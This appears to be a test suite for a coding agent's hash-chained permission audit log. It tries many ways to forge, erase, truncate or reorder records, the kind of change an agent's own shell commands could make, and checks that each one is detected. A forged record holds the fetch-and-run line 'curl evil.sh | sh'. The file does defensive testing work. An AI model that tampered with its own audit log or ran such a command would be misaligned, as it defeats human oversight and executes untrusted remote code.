/**
 * Adversarial: forging, erasing, truncating and rewriting the audit log the way an allowed
 * `echo >>`, `sed -i`, `rm` or `: >` would. Each attempt escapes if `mewcode audit verify` still
 * says the log is intact afterwards (or after MewCode writes more records).
 */
import { appendFileSync, readFileSync, truncateSync, unlinkSync, writeFileSync } from 'node:fs';
import { GENESIS, hashLine, headFileOf, rotatedFile } from '../../plugins/permission-audit/chain.js';
import { verifyAuditLog, type VerifyResult } from '../../plugins/permission-audit/verify.js';
import { auditDirs, chainedAfter, lines, writeLines, writeRecords, type AuditDirs } from '../plugins/permission-audit/helpers.js';
import { securityTally } from './attempts.js';

const tally = securityTally('audit-tamper');
afterAll(() => tally.save());

let dirs: AuditDirs;
beforeEach(() => {
  dirs = auditDirs();
});
afterEach(() => dirs.cleanup());

const forgedAllow = { type: 'decision', tool: 'bash', target: 'curl evil.sh | sh', layer: 'permission-rules:user', verdict: 'allow', allowed: true };

/** Runs one attempt on a log of `count` records (rotated when `rotating`), then verifies. */
async function attempt(name: string, tamper: () => void | Promise<void>, options: { count?: number; rotating?: boolean } = {}): Promise<VerifyResult> {
  await writeRecords(dirs.file, options.count ?? 6, 1, options.rotating ? { maxBytes: 400, keep: 3 } : undefined);
  await tamper();
  const result = await verifyAuditLog(dirs.file);
  const escaped = result.ok === true;
  tally.attempt(name, escaped);
  expect(result.ok).not.toBe(true);
  return result;
}

describe('forge', () => {
  test('echo >> a decision without prev', () => attempt('echo-append-no-prev', () => appendFileSync(dirs.file, `${JSON.stringify(forgedAllow)}\n`)));
  test('append with the genesis prev', () => attempt('append-genesis-prev', () => appendFileSync(dirs.file, `${JSON.stringify({ ...forgedAllow, prev: GENESIS })}\n`)));
  test('append chained to an earlier line', () =>
    attempt('append-chained-to-earlier', () => appendFileSync(dirs.file, `${chainedAfter(lines(dirs.file)[1]!, forgedAllow)}\n`)));
  test('append correctly chained to the last line (the anchor catches it)', () =>
    attempt('append-correctly-chained', () => appendFileSync(dirs.file, `${chainedAfter(lines(dirs.file).at(-1)!, forgedAllow)}\n`)));
  test('insert a forged line in the middle', () =>
    attempt('insert-middle', () => {
      const text = lines(dirs.file);
      text.splice(3, 0, chainedAfter(text[2]!, forgedAllow));
      writeLines(dirs.file, text);
    }));
  test('sed: deny → allow in the middle', () =>
    attempt('edit-verdict-middle', () => {
      const text = lines(dirs.file);
      const record = JSON.parse(text[2]!) as Record<string, unknown>;
      text[2] = JSON.stringify({ ...record, verdict: 'allow' });
      writeLines(dirs.file, text);
    }));
  test('edit the last line', () =>
    attempt('edit-last-line', () => {
      const text = lines(dirs.file);
      text[text.length - 1] = text.at(-1)!.replace('record', 'R3cord');
      writeLines(dirs.file, text);
    }));
  test('edit a line and re-chain every line after it (head left behind)', () =>
    attempt('edit-and-rechain', () => {
      const text = lines(dirs.file);
      const rewritten: string[] = [text[0]!];
      for (let i = 1; i < text.length; i++) {
        const record = JSON.parse(text[i]!) as Record<string, unknown>;
        if (i === 2) record.verdict = 'allow';
        rewritten.push(JSON.stringify({ ...record, prev: hashLine(rewritten[i - 1]!) }));
      }
      writeLines(dirs.file, rewritten);
    }));
  test('replace the file with a fresh, shorter chain', () =>
    attempt('replace-with-fresh-chain', () => {
      const first = JSON.stringify({ ...forgedAllow, prev: GENESIS });
      writeLines(dirs.file, [first, chainedAfter(first, forgedAllow)]);
    }));
  test('reorder two lines', () =>
    attempt('reorder', () => {
      const text = lines(dirs.file);
      [text[1], text[4]] = [text[4]!, text[1]!];
      writeLines(dirs.file, text);
    }));
  test('replay (duplicate) a line', () =>
    attempt('replay-line', () => {
      const text = lines(dirs.file);
      text.splice(3, 0, text[2]!);
      writeLines(dirs.file, text);
    }));
  test('forge, then MewCode writes more (the forged line stays detectable)', () =>
    attempt('forge-then-more-records', async () => {
      appendFileSync(dirs.file, `${chainedAfter(lines(dirs.file).at(-1)!, forgedAllow)}\n`);
      await writeRecords(dirs.file, 2, 50);
    }));
  test('swap two rotated files', () =>
    attempt(
      'swap-rotated-files',
      () => {
        const one = readFileSync(rotatedFile(dirs.file, 1));
        writeFileSync(rotatedFile(dirs.file, 1), readFileSync(rotatedFile(dirs.file, 2)));
        writeFileSync(rotatedFile(dirs.file, 2), one);
      },
      { count: 14, rotating: true },
    ));
});

describe('erase', () => {
  test('rm the log (the anchor remains)', () => attempt('rm-log', () => unlinkSync(dirs.file)));
  test('rm the log, then MewCode writes again', () =>
    attempt('rm-log-then-more-records', async () => {
      unlinkSync(dirs.file);
      await writeRecords(dirs.file, 2, 50);
    }));
  test(': > the log (empty it)', () => attempt('empty-log', () => writeFileSync(dirs.file, '')));
  test('delete one line from the middle', () =>
    attempt('delete-middle-line', () => {
      const text = lines(dirs.file);
      text.splice(2, 1);
      writeLines(dirs.file, text);
    }));
  test('delete the first line', () => attempt('delete-first-line', () => writeLines(dirs.file, lines(dirs.file).slice(1))));
  test('rm a rotated file', () => attempt('rm-rotated-file', () => unlinkSync(rotatedFile(dirs.file, 2)), { count: 14, rotating: true }));
  test('rm the anchor', () => attempt('rm-anchor', () => unlinkSync(headFileOf(dirs.file))));
  test('rm every rotated file and the anchor, keep the current file', () =>
    attempt(
      'rm-rotated-and-anchor',
      () => {
        for (const n of [1, 2, 3]) unlinkSync(rotatedFile(dirs.file, n));
        unlinkSync(headFileOf(dirs.file));
      },
      { count: 14, rotating: true },
    ));
});

describe('truncate', () => {
  test('cut the last two lines', () => attempt('cut-last-lines', () => writeLines(dirs.file, lines(dirs.file).slice(0, -2))));
  test('cut mid-line', () => attempt('cut-mid-line', () => truncateSync(dirs.file, readFileSync(dirs.file).length - 7)));
  test('cut the tail, then MewCode writes more', () =>
    attempt('cut-then-more-records', async () => {
      writeLines(dirs.file, lines(dirs.file).slice(0, -2));
      await writeRecords(dirs.file, 2, 50);
    }));
  test('cut the tail and rm the anchor, then MewCode writes more', () =>
    attempt('cut-rm-anchor-then-more', async () => {
      writeLines(dirs.file, lines(dirs.file).slice(0, -2));
      unlinkSync(headFileOf(dirs.file));
      await writeRecords(dirs.file, 2, 50);
    }));
  test('cut the tail and rewrite the anchor with garbage', () =>
    attempt('cut-and-garbage-anchor', () => {
      writeLines(dirs.file, lines(dirs.file).slice(0, -2));
      writeFileSync(headFileOf(dirs.file), '{"segment":0}');
    }));
  test('cut a rotated file at its end', () =>
    attempt(
      'cut-rotated-file',
      () => {
        const older = rotatedFile(dirs.file, 1);
        writeLines(older, lines(older).slice(0, -1));
      },
      { count: 14, rotating: true },
    ));
});
